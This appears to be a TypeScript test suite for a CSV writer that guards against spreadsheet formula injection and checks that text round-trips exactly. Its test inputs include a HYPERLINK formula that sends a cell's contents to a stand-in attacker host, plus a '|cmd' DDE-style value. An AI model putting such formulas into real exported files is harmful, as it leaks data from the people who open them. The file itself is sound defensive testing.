import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { csvRecords } from '#/csv-records.ts'
import { csvLine, csvQuoted, fromInertCell, inertCell, toCsv } from '#/csv-write.ts'

const readBack = (text: string) => [...csvRecords(text)].map((r) => r.fields)
/** What our own import reads back: each cell with the apostrophe inertCell put before it taken off. */
const importedBack = (text: string) => readBack(text).map((fields) => fields.map(fromInertCell))

describe('csvLine', () => {
  it('writes plain fields as they are, numbers as digits, null and undefined as empty, ending in CR LF', () => {
    expect(csvLine(['Dune', 412, null, undefined, 3.75])).toBe('Dune,412,,,3.75\r\n')
  })

  it('quotes a field holding a comma, a quote or a line break, doubling its quotes', () => {
    expect(csvLine(['Piranesi, a novel', 'She said "stay"', 'one\ntwo'])).toBe('"Piranesi, a novel","She said ""stay""","one\ntwo"\r\n')
  })

  it('writes a text cell a spreadsheet would run as a formula after an apostrophe, so it shows as text', () => {
    expect(csvLine(['=HYPERLINK("https://evil.example/?"&A1,"Click")', '@SUM(1+1)|cmd', '+1-1', '-2+3+cmd', '=1+1'])).toBe(
      `"'=HYPERLINK(""https://evil.example/?""&A1,""Click"")",'@SUM(1+1)|cmd,'+1-1,'-2+3+cmd,'=1+1\r\n`,
    )
    // After spaces, in full-width forms, or after a tab, CR or LF, which some spreadsheets also run.
    expect(['  =1+1', '\uFF1D1+1', '\uFF20SUM(1)', '\t=1+1', '\tplain', '\rplain', '\n=1'].map(inertCell)).toEqual([
      "'  =1+1",
      "'\uFF1D1+1",
      "'\uFF20SUM(1)",
      "'\t=1+1",
      "'\tplain",
      "'\rplain",
      "'\n=1",
    ])
  })

  it("keeps cells that are inert already as they are: Goodreads's quoted ISBNs, plain numbers, text, and numbers it is given", () => {
    expect(csvLine(['="0593135202"', '=""', '="080442957x"', '-800', '+1', '3.75', 'Dune', "'Salem's Lot", 'a=b', -5, 0])).toBe(
      `"=""0593135202""","=""""","=""080442957x""",-800,+1,3.75,Dune,'Salem's Lot,a=b,-5,0\r\n`,
    )
  })

  it('makes a cell that already starts with an apostrophe and a formula inert too, so every cell comes back exactly', () => {
    expect(inertCell("'=1+1")).toBe("''=1+1")
    expect(inertCell("'-ism")).toBe("''-ism")
    for (const text of ['-ism', '+1 for Dune', '@home', "'-ism", "''=x", '="not an isbn"&A1', '=""', '-800', "'Salem's Lot"]) {
      expect(fromInertCell(inertCell(text)), text).toBe(text)
    }
  })

  it('writes a line of one empty field so that it reads back as a record, not a blank line', () => {
    expect(readBack(toCsv(['Title'], [[''], [null]]))).toEqual([['Title'], [''], ['']])
  })
})

describe('csvQuoted', () => {
  it('quotes as csvLine does but writes a formula as it is, for files that must reach the reader unchanged', () => {
    expect(['=HYPERLINK("x")', '-1+1', 'plain', 'a,b', 'one\ntwo', '\uFEFFTitle'].map(csvQuoted)).toEqual([
      '"=HYPERLINK(""x"")"',
      '-1+1',
      'plain',
      '"a,b"',
      '"one\ntwo"',
      '"\uFEFFTitle"',
    ])
    const text = ['=1+1', '@SUM(1)', 'a "b"'].map(csvQuoted).join(',')
    expect([...csvRecords(text)][0]!.fields).toEqual(['=1+1', '@SUM(1)', 'a "b"'])
  })
})

describe('toCsv then csvRecords', () => {
  it('gives back awkward text exactly: quotes, commas, line breaks, emoji, right-to-left text', () => {
    const header = ['Title', 'Author', 'My Review']
    const rows = [
      ['"Quoted", with commas', "O'Brien, Flann", 'line one\r\nline two\nline three\rfour'],
      ['📚 Books & more 👩🏽‍💻', 'نجيب محفوظ', 'אהבתי את הספר, מאוד'],
      ['\uFEFFstarts with a byte order mark', '   spaces kept   ', ''],
      ['=HYPERLINK("x")', '-ism', '""'],
      ['+1', '@home', '="0593135202"'],
    ]
    expect(importedBack(toCsv(header, rows))).toEqual([header, ...rows])
  })

  it('gives back any fields it is given (property)', () => {
    const units = [',', '"', '\r', '\n', '\t', '\uFEFF', ' ', 'a', '1', '.', "'", '=', '+', '-', '@', '\uFF1D', 'X', 'é', '😀']
    const text = fc.oneof(fc.string({ unit: 'binary' }), fc.string({ unit: fc.constantFrom(...units) }))
    const row = fc.array(text, { minLength: 1, maxLength: 6 })
    fc.assert(
      fc.property(row, fc.array(row, { maxLength: 8 }), (header, rows) => {
        expect(importedBack(toCsv(header, rows))).toEqual([header, ...rows])
      }),
      { numRuns: 2000 },
    )
  })

  it('never leaves a cell a spreadsheet would run as a formula (property)', () => {
    const units = ['=', '+', '-', '@', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20', ' ', '\t', '\r', '\n', "'", '"', '1', 'X', 'a', '(', ')']
    fc.assert(
      fc.property(fc.string({ unit: fc.constantFrom(...units) }), (text) => {
        const cell = inertCell(text)
        // What a spreadsheet runs: a cell starting with a formula character (after spaces), or with a
        // tab, CR or LF; a plain number or a quoted ISBN is a value, not a formula that can do anything.
        const runs = /^\s*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]|^[\t\r\n]/.test(cell)
        const inert = /^[+-]?(\d+(\.\d*)?|\.\d+)$/.test(cell) || /^="[\dX]*"$/.test(cell)
        expect(!runs || inert, JSON.stringify(cell)).toBe(true)
      }),
      { numRuns: 5000 },
    )
  })
})
